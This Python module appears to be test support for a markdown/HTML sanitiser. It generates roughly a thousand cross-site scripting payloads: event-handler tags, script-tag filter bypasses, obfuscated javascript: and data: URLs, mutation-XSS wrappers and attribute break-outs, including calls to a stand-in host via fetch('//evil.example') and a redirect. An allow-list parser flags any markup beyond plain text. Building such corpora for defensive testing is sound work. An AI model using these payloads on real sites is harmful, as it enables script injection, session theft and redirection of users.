"""Texts that would act, load or look like more than text, put together from what browsers fall for."""

from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product
from typing import Final, final
from urllib.parse import quote, urlsplit

_EFFECTS: Final = ("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'")
_EVENTS: Final = ("onerror", "onload", "onclick", "onmouseover", "onfocus autofocus x", "ontoggle", "onanimationstart")
_BEARERS: Final = ("img src=x", "svg", "body", "video src=x", "details open", "input", "marquee", "a href=#", "p")
_SHELLS: Final = (
    *("{}", "<p>{}</p>", "> {}", "- {}", "# {}", "| a |\n|---|\n| {} |", "**{}**", "`{}", "```\n{}"),
    *("[{}](http://a.example)", "<!--{}-->", "<![CDATA[{}]]>", "<?{}?>", "<select>{}", "<title>{}</title>"),
    *('<noscript><p title="</noscript>{}">', "<style>{}</style>", "<textarea>{}</textarea>", "<xmp>{}</xmp>"),
    *("<math><mtext><table><mglyph><style><!--</style>{}", '<svg></p><style><a id="</style>{}">'),
    *("<form><math><mtext></form><form><mglyph><style></math>{}", "<template>{}</template>"),
)
_SCHEMES: Final = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *("\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)"),
    *(
        "javascript&#58;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "/x",
        "ws://a.example",
    ),
    *("data:image/svg+xml;base64,PHN2Zz4=", "file:///etc/passwd", "blob:http://a/b", "feed:javascript:alert(1)"),
    *(
        "view-source:javascript:1",
        "//evil.example",
        "\\\\evil.example\\x",
        "http:javascript:alert(1)",
        "cid:1",
        "tel:1",
    ),
    *("user:javascript:alert(1)", 'user:"onclick=alert(1)', "jar:http://a!/b", "mhtml:http://a", "about:blank"),
    *("intent://a#Intent;end", "ftp://evil.example", "x-man-page:ls", "?a=javascript:alert(1)", "#javascript:alert(1)"),
)
_LINKS: Final = (
    *("[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "[x][1]\n\n[1]: {}", "[x]: {}\n[x]", "{}", '[x]({} "title")'),
    *("[![x]({})](http://a.example)", '<a href="{}">x</a>', "<iframe src='{}'></iframe>", "<object data={}>"),
    *("<embed src={}>", "<base href={}>", "<meta http-equiv=refresh content='0;url={}'>", "<img srcset='{} 2x'>"),
    *("<link rel=stylesheet href={}>", "<form action={}>", "<button formaction={}>", "<img src={}>"),
    *("<video poster={}>", "<svg><use href={} /></svg>", "<p style='background:url({})'>", "<math href={}>x</math>"),
    *("<style>@import '{}'</style>", "<body background={}>", "<svg><a xlink:href={}><text>x</text></a></svg>"),
    *("<audio src={} autoplay>", "<input type=image src={}>", "<track src={}>", "<frameset><frame src={}>"),
)
_PERSON: Final = "user:019caab8-6c40-7b6c-a1c3-0d4f3a2b1c01"
_BROKEN_OUT: Final = (
    *('[x](http://a.example" onmouseover="alert(1))', "[x](http://a.example 'x\" onclick=\"alert(1)')"),
    *(
        "[x](http://a.example' onclick='1)",
        "[a](http://a.example/`onclick=alert(1)`)",
        '<http://a.example/"onclick="1>',
    ),
    *('http://a.example/"onmouseover="alert(1)', "http://a.example/'onclick='alert(1)"),
    *('![" onerror="alert(1)](http://a.example/x.png)', '```" onclick="alert(1)\nx\n```'),
    *(f'[@" onclick="alert(1)]({_PERSON})', f"[@<img src=x onerror=alert(1)>]({_PERSON})"),
    *("<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script/x>alert(1)</script\n>"),
    *("<script\x00>1</script>", "\ufeff<script>alert(1)</script>", "<\u017fcript>alert(1)</\u017fcript>"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3E", "\\<script>alert(1)</script>"),
)


def hostile_texts() -> Iterator[str]:
    """Some thousand, none twice."""
    elements = [f"<{bearer} {event}={effect}>" for bearer, event, effect in product(_BEARERS, _EVENTS, _EFFECTS)]
    elements += [f"<script>{effect}</script>" for effect in _EFFECTS]
    whole = [shell.replace("{}", element) for shell, element in product(_SHELLS, elements[::3])]
    links = [link.replace("{}", address) for link, address in product(_LINKS, (*_SCHEMES, *map(quote, _SCHEMES)))]
    return iter(dict.fromkeys([*elements, *whole, *links, *_BROKEN_OUT]))


_SHOWN: Final = frozenset(
    {
        *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
    }
)
_TELLING: Final = {"a": {"href", "title", "rel"}, "ol": {"start"}, "span": {"class", "data-user-id"}}
_ANYWHERE: Final = {"http", "https", "mailto"}


@final
class Reading(HTMLParser):
    """What stands in HTML; `wrong` is all that is more than text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _SHOWN:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            leads_away = name == "href" and urlsplit(str(value)).scheme not in _ANYWHERE
            if name not in _TELLING.get(tag, set()) or leads_away or (name == "class" and value != "mention"):
                self.wrong.append(f"<{tag} {name}={value}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"<![{data}]>")
